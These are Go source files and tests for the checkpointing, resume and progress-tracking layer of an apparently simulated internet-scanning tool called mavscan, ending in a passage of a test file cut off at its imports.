// Record is one checkpoint-journal entry. Segment records are appended
// only when a segment has fully completed — a segment is the atomic unit
// of progress, so a crash mid-segment loses at most that segment's work
// and resume re-runs it from scratch (which is exactly what keeps the
// per-endpoint fault draws identical to an uninterrupted run).
type Record struct {
	// RunID names the journal stream this record belongs to.
	RunID string `json:"run_id"`
	// Kind is recordPlan or recordSegment.
	Kind string `json:"kind"`
	// Shard and Segment identify the completed segment (segment records).
	Shard   int `json:"shard"`
	Segment int `json:"segment"`
	// Watermark is the end-exclusive global flat address index the segment
	// covers: every address below it within the segment's window has been
	// fully scanned on every port.
	Watermark uint64 `json:"watermark"`
	// Payload is the plan fingerprint (plan records) or the JSON-encoded
	// partial report delta (segment records).
	Payload []byte `json:"payload"`
}

// Store is a pluggable append-only checkpoint journal. Append must be
// durable by the time it returns (to the extent the backing medium
// allows) and safe for concurrent use; Replay streams the records of one
// run in append order.
type Store interface {
	Append(rec Record) error
	Replay(runID string, fn func(Record) error) error
}

// MemStore is an in-memory Store, for tests and single-process resume.
type MemStore struct {
	mu   sync.Mutex
	recs []Record
}

// NewMemStore returns an empty in-memory checkpoint store.
func NewMemStore() *MemStore { return &MemStore{} }

// Append implements Store.
func (s *MemStore) Append(rec Record) error {
	rec.Payload = append([]byte(nil), rec.Payload...)
	s.mu.Lock()
	defer s.mu.Unlock()
	s.recs = append(s.recs, rec)
	return nil
}

// Replay implements Store.
func (s *MemStore) Replay(runID string, fn func(Record) error) error {
	s.mu.Lock()
	recs := make([]Record, len(s.recs))
	copy(recs, s.recs)
	s.mu.Unlock()
	for _, rec := range recs {
		if rec.RunID != runID {
			continue
		}
		if err := fn(rec); err != nil {
			return err
		}
	}
	return nil
}

// Len returns the number of journaled records (all runs). Tests use it to
// cancel a run at a precise checkpoint boundary.
func (s *MemStore) Len() int {
	s.mu.Lock()
	defer s.mu.Unlock()
	return len(s.recs)
}

// Ping reports writability for the operations plane's readiness check
// (obs.Pinger). Memory is always writable.
func (s *MemStore) Ping() error { return nil }

// checkpointEventType is the eslite event class checkpoint records use.
const checkpointEventType = "orchestrator.checkpoint"

// ESLiteStore journals checkpoints into an eslite event store, so an
// existing monitoring deployment can double as the scan's progress
// journal. The append-only discipline matches: eslite exposes no update
// or delete, and Search is stable on insert order for equal timestamps,
// so replay order is append order.
type ESLiteStore struct {
	// Events is the backing store. Required.
	Events *eslite.Store
	// Clock, when non-nil, stamps each record's event time (simulated time
	// in studies). A nil clock leaves timestamps zero, which keeps replay
	// order purely insert-ordered.
	Clock simtime.Clock
}

// NewESLiteStore journals checkpoints into events (clock may be nil).
func NewESLiteStore(events *eslite.Store, clock simtime.Clock) *ESLiteStore {
	return &ESLiteStore{Events: events, Clock: clock}
}

// Append implements Store.
func (s *ESLiteStore) Append(rec Record) error {
	e := eslite.Event{
		Type: checkpointEventType,
		Fields: map[string]string{
			"run":       rec.RunID,
			"kind":      rec.Kind,
			"shard":     strconv.Itoa(rec.Shard),
			"segment":   strconv.Itoa(rec.Segment),
			"watermark": strconv.FormatUint(rec.Watermark, 10),
			"payload":   string(rec.Payload),
		},
	}
	if s.Clock != nil {
		e.Time = s.Clock.Now()
	}
	s.Events.Append(e)
	return nil
}

// Ping reports writability for the operations plane's readiness check
// (obs.Pinger): an ESLiteStore is healthy exactly when it has a backing
// event store, and probing Len exercises the store's lock so a poisoned
// mutex would surface as a hang in /readyz rather than a silent pass.
func (s *ESLiteStore) Ping() error {
	if s.Events == nil {
		return fmt.Errorf("eslite checkpoint journal: no backing event store")
	}
	s.Events.Len()
	return nil
}

// Replay implements Store.
func (s *ESLiteStore) Replay(runID string, fn func(Record) error) error {
	for _, e := range s.Events.Search(eslite.Query{
		Type:  checkpointEventType,
		Match: map[string]string{"run": runID},
	}) {
		shard, err := strconv.Atoi(e.Field("shard"))
		if err != nil {
			return fmt.Errorf("orchestrator: corrupt checkpoint event: %w", err)
		}
		segment, err := strconv.Atoi(e.Field("segment"))
		if err != nil {
			return fmt.Errorf("orchestrator: corrupt checkpoint event: %w", err)
		}
		watermark, err := strconv.ParseUint(e.Field("watermark"), 10, 64)
		if err != nil {
			return fmt.Errorf("orchestrator: corrupt checkpoint event: %w", err)
		}
		rec := Record{
			RunID:     runID,
			Kind:      e.Field("kind"),
			Shard:     shard,
			Segment:   segment,
			Watermark: watermark,
			Payload:   []byte(e.Field("payload")),
		}
		if err := fn(rec); err != nil {
			return err
		}
	}
	return nil
}

// FileStore is a JSONL-on-disk Store: one JSON record per line, appended
// and fsynced per checkpoint. It is what cmd/mavscan -checkpoint uses, so
// a killed process can resume across restarts.
type FileStore struct {
	mu   sync.Mutex
	f    *os.File
	path string
}

// OpenFileStore opens (creating if needed) the journal at path.
func OpenFileStore(path string) (*FileStore, error) {
	f, err := os.OpenFile(path, os.O_CREATE|os.O_APPEND|os.O_WRONLY, 0o644)
	if err != nil {
		return nil, fmt.Errorf("orchestrator: opening checkpoint journal: %w", err)
	}
	return &FileStore{f: f, path: path}, nil
}

// Append implements Store. Each record is written as one line and synced:
// checkpoints are segment-granular, so the fsync cost is amortized over
// thousands of probes.
func (s *FileStore) Append(rec Record) error {
	line, err := json.Marshal(rec)
	if err != nil {
		return err
	}
	s.mu.Lock()
	defer s.mu.Unlock()
	if _, err := s.f.Write(append(line, '\n')); err != nil {
		return err
	}
	return s.f.Sync()
}

// Replay implements Store. It reads through a separate handle, so replay
// during an active journal sees a consistent prefix.
func (s *FileStore) Replay(runID string, fn func(Record) error) error {
	f, err := os.Open(s.path)
	if err != nil {
		if os.IsNotExist(err) {
			return nil
		}
		return err
	}
	defer f.Close()
	sc := bufio.NewScanner(f)
	sc.Buffer(nil, 16<<20)
	for sc.Scan() {
		line := sc.Bytes()
		if len(line) == 0 {
			continue
		}
		var rec Record
		if err := json.Unmarshal(line, &rec); err != nil {
			return fmt.Errorf("orchestrator: corrupt checkpoint line: %w", err)
		}
		if rec.RunID != runID {
			continue
		}
		if err := fn(rec); err != nil {
			return err
		}
	}
	return sc.Err()
}

// Close releases the journal file handle.
func (s *FileStore) Close() error {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.f.Close()
}

// Ping reports writability for the operations plane's readiness check
// (obs.Pinger): it stats the open handle, which fails once the file is
// closed or the descriptor has gone bad.
func (s *FileStore) Ping() error {
	s.mu.Lock()
	defer s.mu.Unlock()
	if _, err := s.f.Stat(); err != nil {
		return fmt.Errorf("checkpoint journal %s: %w", s.path, err)
	}
	return nil
}
