package orchestrator

import (
	"context"
	"encoding/json"
	"errors"
	"net/netip"
	"path/filepath"
	"sync"
	"testing"
	"time"

	"mavscan/internal/apps"
	"mavscan/internal/eslite"
	"mavscan/internal/faults"
	"mavscan/internal/httpsim"
	"mavscan/internal/iprange"
	"mavscan/internal/population"
	"mavscan/internal/resilience"
	"mavscan/internal/scanner"
	"mavscan/internal/simnet"
	"mavscan/internal/simtime"
	"mavscan/internal/telemetry"
)

// testWorld generates the standard small scan world. A fresh world per run
// keeps the identity tests honest: nothing can leak between the compared
// runs, and generation is deterministic, so two worlds from the same seed
// are indistinguishable to the scanner.
func testWorld(tb testing.TB) *population.World {
	tb.Helper()
	world, err := population.Generate(population.Config{
		Seed: 9, HostScale: 8000, VulnScale: 8,
		BackgroundScale: -1, WildcardScale: -1,
	})
	if err != nil {
		tb.Fatal(err)
	}
	return world
}

func testOptions(world *population.World) scanner.Options {
	return scanner.Options{Targets: world.Geo.Prefixes(), Seed: 9}
}

// monolithicJSON runs the unsharded pipeline on a fresh world and returns
// the canonical JSON encoding of its report.
func monolithicJSON(tb testing.TB) []byte {
	tb.Helper()
	world := testWorld(tb)
	rep, err := scanner.New(world.Net).Run(context.Background(), testOptions(world))
	if err != nil {
		tb.Fatal(err)
	}
	return reportJSON(tb, rep)
}

// reportJSON canonicalizes a report for byte-level comparison. Elapsed is
// wall-clock noise, not part of the result; everything else must match
// byte for byte (JSON map keys are emitted in sorted order, and time.Time
// round-trips canonically, so equal reports encode equally).
func reportJSON(tb testing.TB, rep *scanner.Report) []byte {
	tb.Helper()
	cp := *rep
	cp.Stats.Elapsed = 0
	b, err := json.Marshal(&cp)
	if err != nil {
		tb.Fatal(err)
	}
	return b
}

// TestShardedMatchesMonolithic is the headline acceptance: for the same
// seed, the merged sharded report is byte-identical to the monolithic one
// for shards in {1, 4, 16}.
func TestShardedMatchesMonolithic(t *testing.T) {
	if testing.Short() {
		t.Skip("runs four full scans")
	}
	want := monolithicJSON(t)
	for _, shards := range []int{1, 4, 16} {
		world := testWorld(t)
		rep, err := Run(context.Background(), Config{
			Net:         world.Net,
			Scan:        testOptions(world),
			Shards:      shards,
			Parallelism: 4,
		})
		if err != nil {
			t.Fatalf("shards=%d: %v", shards, err)
		}
		if got := reportJSON(t, rep); string(got) != string(want) {
			t.Errorf("shards=%d: merged report differs from monolithic", shards)
		}
	}
}

// cancelStore cancels a context after a fixed number of completed-segment
// appends, simulating a coordinator killed at a checkpoint boundary.
type cancelStore struct {
	Store
	mu     sync.Mutex
	after  int
	cancel context.CancelFunc
}

func (s *cancelStore) Append(rec Record) error {
	if err := s.Store.Append(rec); err != nil {
		return err
	}
	if rec.Kind != recordSegment {
		return nil
	}
	s.mu.Lock()
	defer s.mu.Unlock()
	s.after--
	if s.after == 0 {
		s.cancel()
	}
	return nil
}

// TestResumeAfterCheckpointBoundaryKill kills the orchestrator right after
// its 1st, 3rd and 7th segment checkpoint, resumes each from the journal,
// and requires the final merged report to be byte-identical to an
// uninterrupted same-seed run.
func TestResumeAfterCheckpointBoundaryKill(t *testing.T) {
	if testing.Short() {
		t.Skip("runs several full scans")
	}
	want := monolithicJSON(t)
	for _, after := range []int{1, 3, 7} {
		mem := NewMemStore()
		ctx, cancel := context.WithCancel(context.Background())
		store := &cancelStore{Store: mem, after: after, cancel: cancel}
		world := testWorld(t)
		cfg := Config{
			Net:         world.Net,
			Scan:        testOptions(world),
			Shards:      4,
			Parallelism: 2,
			Checkpoint:  Checkpoint{Store: store, Every: spaceSize(t, world)/12 + 1},
		}
		if _, err := Run(ctx, cfg); !errors.Is(err, context.Canceled) {
			t.Fatalf("after=%d: killed run returned %v, want context.Canceled", after, err)
		}
		cancel()
		if mem.Len() <= after { // plan record + >= after segment records
			t.Fatalf("after=%d: journal holds only %d records", after, mem.Len())
		}

		reg := telemetry.New(simtime.NewSim(time.Date(2021, 6, 3, 0, 0, 0, 0, time.UTC)))
		world = testWorld(t)
		cfg.Net = world.Net
		cfg.Scan = testOptions(world)
		cfg.Checkpoint = Checkpoint{Store: mem, Every: cfg.Checkpoint.Every, Resume: true}
		cfg.Telemetry = reg
		rep, err := Run(context.Background(), cfg)
		if err != nil {
			t.Fatalf("after=%d: resume: %v", after, err)
		}
		if got := reportJSON(t, rep); string(got) != string(want) {
			t.Errorf("after=%d: resumed report differs from uninterrupted run", after)
		}
		if resumed := reg.CounterValue("mavscan_orchestrator_resumed_segments_total"); resumed < uint64(after) {
			t.Errorf("after=%d: resumed only %d segments from the journal", after, resumed)
		}
	}
}

func spaceSize(tb testing.TB, world *population.World) uint64 {
	tb.Helper()
	set, err := iprange.FromPrefixes(world.Geo.Prefixes())
	if err != nil {
		tb.Fatal(err)
	}
	return set.NumAddresses()
}

// TestWorkerCrashAbsorbedByRetries injects shard-worker crashes at a rate
// the segment-level retries can absorb: the run completes, counts its
// crashes, and still produces the byte-identical report — crashed attempts
// must never leak into endpoint state.
func TestWorkerCrashAbsorbedByRetries(t *testing.T) {
	if testing.Short() {
		t.Skip("runs two full scans")
	}
	want := monolithicJSON(t)
	reg := telemetry.New(simtime.NewSim(time.Date(2021, 6, 3, 0, 0, 0, 0, time.UTC)))
	world := testWorld(t)
	rep, err := Run(context.Background(), Config{
		Net:        world.Net,
		Scan:       testOptions(world),
		Shards:     4,
		Checkpoint: Checkpoint{Store: NewMemStore(), Every: spaceSize(t, world)/12 + 1},
		Faults:     faults.NewPlan(faults.Config{Seed: 5, WorkerCrashRate: 0.5}, nil),
		Resilience: resilience.Policy{MaxAttempts: 8, JitterSeed: 5},
		Telemetry:  reg,
	})
	if err != nil {
		t.Fatal(err)
	}
	if got := reportJSON(t, rep); string(got) != string(want) {
		t.Error("report under absorbed worker crashes differs from clean run")
	}
	if crashes := reg.CounterValue("mavscan_orchestrator_worker_crashes_total"); crashes == 0 {
		t.Error("crash rate 0.5 produced no worker crashes")
	}
}

// TestResumeAfterMidShardCrash kills the run mid-shard through the fault
// plan (crashes without retry budget), then resumes from the journal with
// injection disabled and requires byte-identity.
func TestResumeAfterMidShardCrash(t *testing.T) {
	if testing.Short() {
		t.Skip("runs several full scans")
	}
	want := monolithicJSON(t)
	mem := NewMemStore()
	world := testWorld(t)
	every := spaceSize(t, world)/12 + 1
	cfg := Config{
		Net:        world.Net,
		Scan:       testOptions(world),
		Shards:     4,
		Checkpoint: Checkpoint{Store: mem, Every: every},
		Faults:     faults.NewPlan(faults.Config{Seed: 5, WorkerCrashRate: 0.4}, nil),
	}
	if _, err := Run(context.Background(), cfg); !errors.Is(err, ErrWorkerCrash) {
		t.Fatalf("crash-without-retries run returned %v, want ErrWorkerCrash", err)
	}

	world = testWorld(t)
	rep, err := Run(context.Background(), Config{
		Net:        world.Net,
		Scan:       testOptions(world),
		Shards:     4,
		Checkpoint: Checkpoint{Store: mem, Every: every, Resume: true},
	})
	if err != nil {
		t.Fatalf("resume: %v", err)
	}
	if got := reportJSON(t, rep); string(got) != string(want) {
		t.Error("report resumed after mid-shard crash differs from uninterrupted run")
	}
}

// TestResumeRejectsChangedPlan: a journal written under one configuration
// must refuse to seed a resume under another.
func TestResumeRejectsChangedPlan(t *testing.T) {
	n, targets := smokeNet(t)
	mem := NewMemStore()
	cfg := Config{
		Net:        n,
		Scan:       scanner.Options{Targets: targets, Seed: 3},
		Shards:     2,
		Checkpoint: Checkpoint{Store: mem},
	}
	if _, err := Run(context.Background(), cfg); err != nil {
		t.Fatal(err)
	}
	cfg.Shards = 4
	cfg.Checkpoint.Resume = true
	if _, err := Run(context.Background(), cfg); err == nil {
		t.Fatal("resume with a different shard count did not fail")
	}
}

// TestConfigValidation covers the orchestrator's rejection paths.
func TestConfigValidation(t *testing.T) {
	n, targets := smokeNet(t)
	if _, err := Run(context.Background(), Config{Net: n}); err == nil {
		t.Error("no targets: expected error")
	}
	if _, err := Run(context.Background(), Config{
		Net:  n,
		Scan: scanner.Options{Space: &iprange.Set{}, Targets: targets},
	}); err == nil {
		t.Error("preset Scan.Space: expected error")
	}
	if _, err := Run(context.Background(), Config{
		Net:        n,
		Scan:       scanner.Options{Targets: targets},
		Checkpoint: Checkpoint{Resume: true},
	}); err == nil {
		t.Error("Resume without Store: expected error")
	}
}

// smokeNet hand-builds a tiny network with one vulnerable Docker daemon,
// an idiom small enough for -short runs.
func smokeNet(tb testing.TB) (*simnet.Network, []netip.Prefix) {
	tb.Helper()
	n := simnet.New()
	inst, err := apps.New(apps.Config{App: "Docker"})
	if err != nil {
		tb.Fatal(err)
	}
	host := simnet.NewHost(netip.MustParseAddr("10.0.0.3"))
	host.Bind(2375, httpsim.ConnHandler(inst.Handler()))
	if err := n.AddHost(host); err != nil {
		tb.Fatal(err)
	}
	return n, []netip.Prefix{netip.MustParsePrefix("10.0.0.0/28")}
}

// TestOrchestratorSmoke is the -short end-to-end check: a sharded,
// checkpointed scan over a hand-built /28 produces the same report as the
// monolithic pipeline over an identically built network, and the journal
// carries one record per segment plus the plan.
func TestOrchestratorSmoke(t *testing.T) {
	n, targets := smokeNet(t)
	monoRep, err := scanner.New(n).Run(context.Background(), scanner.Options{Targets: targets, Seed: 3})
	if err != nil {
		t.Fatal(err)
	}
	want := reportJSON(t, monoRep)

	n, targets = smokeNet(t)
	mem := NewMemStore()
	reg := telemetry.New(simtime.NewSim(time.Date(2021, 6, 3, 0, 0, 0, 0, time.UTC)))
	rep, err := Run(context.Background(), Config{
		Net:        n,
		Scan:       scanner.Options{Targets: targets, Seed: 3},
		Shards:     2,
		Checkpoint: Checkpoint{Store: mem, Every: 4},
		Telemetry:  reg,
	})
	if err != nil {
		t.Fatal(err)
	}
	if got := reportJSON(t, rep); string(got) != string(want) {
		t.Errorf("sharded smoke report differs from monolithic:\n got %s\nwant %s", got, want)
	}
	// /28 = 16 addresses, 2 shards x 8 addresses, Every=4 -> 4 segments.
	if mem.Len() != 1+4 {
		t.Errorf("journal holds %d records, want plan + 4 segments", mem.Len())
	}
	if segs := reg.CounterValue("mavscan_orchestrator_segments_total"); segs != 4 {
		t.Errorf("segments_total = %d, want 4", segs)
	}
	if wm := reg.GaugeValue(`mavscan_orchestrator_shard_watermark{shard="0"}`) +
		reg.GaugeValue(`mavscan_orchestrator_shard_watermark{shard="1"}`); wm != 16 {
		t.Errorf("summed shard watermarks = %d, want 16 addresses", wm)
	}
}

// TestFileStoreResumesAcrossReopen exercises the on-disk journal the CLI
// uses: write through one handle, reopen, and replay.
func TestFileStoreResumesAcrossReopen(t *testing.T) {
	path := filepath.Join(t.TempDir(), "ckpt.jsonl")
	st, err := OpenFileStore(path)
	if err != nil {
		t.Fatal(err)
	}
	recs := []Record{
		{RunID: "scan", Kind: recordPlan, Payload: []byte("fp")},
		{RunID: "other", Kind: recordSegment, Segment: 9},
		{RunID: "scan", Kind: recordSegment, Shard: 1, Segment: 2, Watermark: 64, Payload: []byte(`{"x":1}`)},
	}
	for _, r := range recs {
		if err := st.Append(r); err != nil {
			t.Fatal(err)
		}
	}
	if err := st.Close(); err != nil {
		t.Fatal(err)
	}
	st, err = OpenFileStore(path)
	if err != nil {
		t.Fatal(err)
	}
	defer st.Close()
	var got []Record
	if err := st.Replay("scan", func(r Record) error { got = append(got, r); return nil }); err != nil {
		t.Fatal(err)
	}
	if len(got) != 2 || got[0].Kind != recordPlan || got[1].Segment != 2 || got[1].Watermark != 64 {
		t.Fatalf("replayed %+v", got)
	}
}

// TestESLiteStorePing pins the readiness contract the operations plane
// relies on (obs.Pinger): a store with a backing event log is healthy —
// before and after writes — and a zero-value store without one reports an
// error instead of passing silently.
func TestESLiteStorePing(t *testing.T) {
	st := NewESLiteStore(&eslite.Store{}, nil)
	if err := st.Ping(); err != nil {
		t.Errorf("fresh store Ping: %v", err)
	}
	if err := st.Append(Record{RunID: "scan", Kind: recordSegment}); err != nil {
		t.Fatal(err)
	}
	if err := st.Ping(); err != nil {
		t.Errorf("Ping after append: %v", err)
	}
	var hollow ESLiteStore
	if err := hollow.Ping(); err == nil {
		t.Error("store without a backing event log pinged healthy")
	}
}

// TestESLiteStoreRoundTrip checks the event-store-backed journal filters
// by run and preserves append order and payloads.
func TestESLiteStoreRoundTrip(t *testing.T) {
	st := NewESLiteStore(&eslite.Store{}, nil)
	for i := 0; i < 3; i++ {
		if err := st.Append(Record{RunID: "scan", Kind: recordSegment, Segment: i, Payload: []byte{byte('a' + i)}}); err != nil {
			t.Fatal(err)
		}
	}
	if err := st.Append(Record{RunID: "other", Kind: recordSegment, Segment: 99}); err != nil {
		t.Fatal(err)
	}
	var got []Record
	if err := st.Replay("scan", func(r Record) error { got = append(got, r); return nil }); err != nil {
		t.Fatal(err)
	}
	if len(got) != 3 {
		t.Fatalf("replayed %d records, want 3", len(got))
	}
	for i, r := range got {
		if r.Segment != i || string(r.Payload) != string([]byte{byte('a' + i)}) {
			t.Fatalf("record %d = %+v", i, r)
		}
	}
}
