package orchestrator

import (
	"errors"
	"sort"
	"sync"
	"time"

	"mavscan/internal/simtime"
)

// ProgressTracker accumulates the live state of one orchestrated run for
// the operations plane's /progress endpoint: per-shard address
// watermarks, checkpoint lag, steal/crash/resume counts, worker
// liveness, and an ETA extrapolated from completed-segment durations.
//
// It is the runtime twin of the telemetry gauges — gauges feed a metrics
// scraper one number at a time, the tracker serves one coherent JSON
// snapshot — and it is the structure the future coordinator/worker
// fabric will lease on. The nil *ProgressTracker no-ops on every hook,
// mirroring the nil telemetry registry, so orchestrator wiring is
// unconditional.
type ProgressTracker struct {
	mu       sync.Mutex
	clock    simtime.Clock
	start    time.Time
	started  bool
	finished bool
	hasStore bool

	shards   []shardState
	segTotal int
	segDone  int

	steals  uint64
	crashes uint64
	resumed uint64
	active  int

	segElapsed time.Duration // summed durations of completed segments

	resident func() int

	// Fabric mode: per-worker rows keyed by worker ID, maintained by the
	// coordinator's exported hooks instead of the in-process pool's
	// workerStart/workerStop.
	fabric  bool
	workers map[string]*workerState
}

type workerState struct {
	joined   time.Time
	lastBeat time.Time
	lost     bool
	segs     int
	addrs    uint64
}

type shardState struct {
	total     uint64 // addresses in the shard
	done      uint64 // addresses in completed segments
	journaled uint64 // addresses durably checkpointed
}

// NewProgressTracker returns an empty tracker ready to hand to
// Config.Progress.
func NewProgressTracker() *ProgressTracker { return &ProgressTracker{} }

// ShardProgress is one shard's row in a snapshot.
type ShardProgress struct {
	Shard     int    `json:"shard"`
	Total     uint64 `json:"total_addrs"`
	Done      uint64 `json:"done_addrs"`
	Journaled uint64 `json:"journaled_addrs"`
	// Lag is Done − Journaled: addresses scanned but not yet durable,
	// i.e. the work a kill at this instant would lose.
	Lag       uint64  `json:"checkpoint_lag_addrs"`
	Watermark float64 `json:"watermark"` // Done/Total in [0,1]
}

// WorkerProgress is one fabric worker's row in a snapshot.
type WorkerProgress struct {
	ID   string `json:"id"`
	Live bool   `json:"live"`
	// Segments and DoneAddrs count completed leased work attributed to
	// this worker (keep-first: duplicate completions credit the winner).
	Segments  int    `json:"segments_done"`
	DoneAddrs uint64 `json:"done_addrs"`
	// BeatAgeSeconds is the time since the worker's last heartbeat (any
	// fabric request counts), the number the coordinator's lease-expiry
	// sweep compares against the lease TTL.
	BeatAgeSeconds float64 `json:"beat_age_seconds"`
}

// Progress is one coherent snapshot of a run, shaped for JSON.
type Progress struct {
	Started        bool            `json:"started"`
	Done           bool            `json:"done"`
	ElapsedSeconds float64         `json:"elapsed_seconds"`
	Watermark      float64         `json:"watermark"` // merged Done/Total
	TotalAddrs     uint64          `json:"total_addrs"`
	DoneAddrs      uint64          `json:"done_addrs"`
	SegmentsTotal  int             `json:"segments_total"`
	SegmentsDone   int             `json:"segments_done"`
	ActiveWorkers  int             `json:"active_workers"`
	Steals         uint64          `json:"steals"`
	Crashes        uint64          `json:"crashes"`
	Resumed        uint64          `json:"resumed_segments"`
	ResidentHosts  int             `json:"resident_hosts"`
	ETASeconds     float64          `json:"eta_seconds"`
	Shards         []ShardProgress  `json:"shards,omitempty"`
	Workers        []WorkerProgress `json:"workers,omitempty"`
}

// SetResident installs the resident-host sampler (the lazy population
// cache's occupancy), read lazily at snapshot time.
func (t *ProgressTracker) SetResident(fn func() int) {
	if t == nil {
		return
	}
	t.mu.Lock()
	t.resident = fn
	t.mu.Unlock()
}

// begin records the run's shape. shardTotals holds each shard's address
// count; hasStore reports whether completed segments become durable.
func (t *ProgressTracker) begin(clock simtime.Clock, shardTotals []uint64, segTotal int, hasStore bool) {
	if t == nil {
		return
	}
	t.mu.Lock()
	defer t.mu.Unlock()
	t.clock = clock
	t.start = clock.Now()
	t.started = true
	t.finished = false
	t.hasStore = hasStore
	t.shards = make([]shardState, len(shardTotals))
	for i, n := range shardTotals {
		t.shards[i].total = n
	}
	t.segTotal = segTotal
	t.segDone = 0
	t.steals, t.crashes, t.resumed = 0, 0, 0
	t.segElapsed = 0
}

// resumedSegment accounts a segment satisfied from the journal.
func (t *ProgressTracker) resumedSegment(shard int, addrs uint64) {
	if t == nil {
		return
	}
	t.mu.Lock()
	defer t.mu.Unlock()
	t.resumed++
	t.segDone++
	t.shards[shard].done += addrs
	t.shards[shard].journaled += addrs
}

// segmentDone accounts a freshly scanned segment. journaled reports
// whether the delta reached the checkpoint store before completion.
func (t *ProgressTracker) segmentDone(shard int, addrs uint64, dur time.Duration, journaled bool) {
	if t == nil {
		return
	}
	t.mu.Lock()
	defer t.mu.Unlock()
	t.segDone++
	t.shards[shard].done += addrs
	if journaled {
		t.shards[shard].journaled += addrs
	}
	t.segElapsed += dur
}

func (t *ProgressTracker) steal() {
	if t == nil {
		return
	}
	t.mu.Lock()
	t.steals++
	t.mu.Unlock()
}

func (t *ProgressTracker) crash() {
	if t == nil {
		return
	}
	t.mu.Lock()
	t.crashes++
	t.mu.Unlock()
}

func (t *ProgressTracker) workerStart() {
	if t == nil {
		return
	}
	t.mu.Lock()
	t.active++
	t.mu.Unlock()
}

func (t *ProgressTracker) workerStop() {
	if t == nil {
		return
	}
	t.mu.Lock()
	t.active--
	t.mu.Unlock()
}

func (t *ProgressTracker) finish() {
	if t == nil {
		return
	}
	t.mu.Lock()
	t.finished = true
	t.mu.Unlock()
}

// BeginFabric records a coordinator-run scan's shape, like begin, but
// switches the tracker into fabric mode: worker liveness comes from the
// WorkerJoined/WorkerBeat/WorkerLost hooks rather than the in-process
// pool, and Ping fails when every joined worker has been lost.
func (t *ProgressTracker) BeginFabric(clock simtime.Clock, shardTotals []uint64, segTotal int, hasStore bool) {
	t.begin(clock, shardTotals, segTotal, hasStore)
	if t == nil {
		return
	}
	t.mu.Lock()
	t.fabric = true
	t.workers = map[string]*workerState{}
	t.mu.Unlock()
}

// WorkerJoined registers a fabric worker (idempotent; a rejoin revives a
// lost worker) and counts as its first heartbeat.
func (t *ProgressTracker) WorkerJoined(id string) {
	if t == nil {
		return
	}
	t.mu.Lock()
	defer t.mu.Unlock()
	if t.workers == nil {
		t.workers = map[string]*workerState{}
	}
	w := t.workers[id]
	if w == nil {
		w = &workerState{}
		t.workers[id] = w
		if t.clock != nil {
			w.joined = t.clock.Now()
		}
	}
	if w.lost {
		w.lost = false
	}
	if t.clock != nil {
		w.lastBeat = t.clock.Now()
	}
}

// WorkerBeat refreshes a fabric worker's heartbeat. Any coordinator
// request from the worker should route through here, so a worker busy
// scanning one long segment still reads as live.
func (t *ProgressTracker) WorkerBeat(id string) {
	if t == nil {
		return
	}
	t.mu.Lock()
	defer t.mu.Unlock()
	if w := t.workers[id]; w != nil && t.clock != nil {
		w.lastBeat = t.clock.Now()
	}
}

// WorkerLost marks a fabric worker dead (lease expired after K missed
// heartbeats, or the transport reported the peer gone).
func (t *ProgressTracker) WorkerLost(id string) {
	if t == nil {
		return
	}
	t.mu.Lock()
	defer t.mu.Unlock()
	if w := t.workers[id]; w != nil {
		w.lost = true
	}
}

// WorkerSegmentDone accounts a leased segment completed by worker id,
// feeding both the shard watermarks and the worker's own row.
func (t *ProgressTracker) WorkerSegmentDone(id string, shard int, addrs uint64, dur time.Duration, journaled bool) {
	t.segmentDone(shard, addrs, dur, journaled)
	if t == nil {
		return
	}
	t.mu.Lock()
	defer t.mu.Unlock()
	if w := t.workers[id]; w != nil {
		w.segs++
		w.addrs += addrs
	}
}

// FabricResumed accounts a segment satisfied from the shared journal
// before any worker scanned it (coordinator resume).
func (t *ProgressTracker) FabricResumed(shard int, addrs uint64) { t.resumedSegment(shard, addrs) }

// FinishFabric marks a coordinator-run scan complete.
func (t *ProgressTracker) FinishFabric() { t.finish() }

// Snapshot freezes the tracker into a JSON-ready Progress. A nil or
// never-begun tracker yields the zero snapshot (Started false).
func (t *ProgressTracker) Snapshot() Progress {
	if t == nil {
		return Progress{}
	}
	t.mu.Lock()
	defer t.mu.Unlock()
	p := Progress{
		Started:       t.started,
		Done:          t.finished,
		SegmentsTotal: t.segTotal,
		SegmentsDone:  t.segDone,
		ActiveWorkers: t.active,
		Steals:        t.steals,
		Crashes:       t.crashes,
		Resumed:       t.resumed,
	}
	if !t.started {
		return p
	}
	p.ElapsedSeconds = t.clock.Now().Sub(t.start).Seconds()
	p.Shards = make([]ShardProgress, len(t.shards))
	for i, s := range t.shards {
		row := ShardProgress{Shard: i, Total: s.total, Done: s.done, Journaled: s.journaled}
		if !t.hasStore {
			// No journal: nothing can lag behind one. Mirror Done so the
			// lag column reads zero instead of "everything".
			row.Journaled = s.done
		}
		row.Lag = row.Done - row.Journaled
		if s.total > 0 {
			row.Watermark = float64(s.done) / float64(s.total)
		}
		p.TotalAddrs += s.total
		p.DoneAddrs += s.done
		p.Shards[i] = row
	}
	if p.TotalAddrs > 0 {
		p.Watermark = float64(p.DoneAddrs) / float64(p.TotalAddrs)
	}
	if t.resident != nil {
		p.ResidentHosts = t.resident()
	}
	if t.fabric {
		ids := make([]string, 0, len(t.workers))
		for id := range t.workers {
			ids = append(ids, id)
		}
		sort.Strings(ids)
		now := t.clock.Now()
		live := 0
		for _, id := range ids {
			w := t.workers[id]
			row := WorkerProgress{ID: id, Live: !w.lost, Segments: w.segs, DoneAddrs: w.addrs}
			if !w.lost {
				live++
				row.BeatAgeSeconds = now.Sub(w.lastBeat).Seconds()
			}
			p.Workers = append(p.Workers, row)
		}
		p.ActiveWorkers = live
	}
	// ETA: mean completed-segment duration × remaining segments, spread
	// over the live workers. Resumed segments cost no scan time, so only
	// freshly scanned ones contribute to the mean.
	if scanned := t.segDone - int(t.resumed); scanned > 0 && !t.finished {
		mean := t.segElapsed.Seconds() / float64(scanned)
		workers := t.active
		if workers < 1 {
			workers = 1
		}
		p.ETASeconds = mean * float64(t.segTotal-t.segDone) / float64(workers)
	}
	return p
}

// Ping reports worker-pool liveness for a readiness check: it fails when
// the run has begun, is not finished, and no worker is active — the
// signature of a wedged or abandoned pool. It satisfies obs.Pinger.
func (t *ProgressTracker) Ping() error {
	if t == nil {
		return nil
	}
	t.mu.Lock()
	defer t.mu.Unlock()
	if t.fabric {
		if !t.started || t.finished || len(t.workers) == 0 {
			return nil
		}
		for _, w := range t.workers {
			if !w.lost {
				return nil
			}
		}
		return errors.New("fabric run in progress but all workers lost")
	}
	if t.started && !t.finished && t.active == 0 {
		return errors.New("run in progress but no live workers")
	}
	return nil
}
