package population

import (
	"testing"

	"mavscan/internal/apps"
	"mavscan/internal/mav"
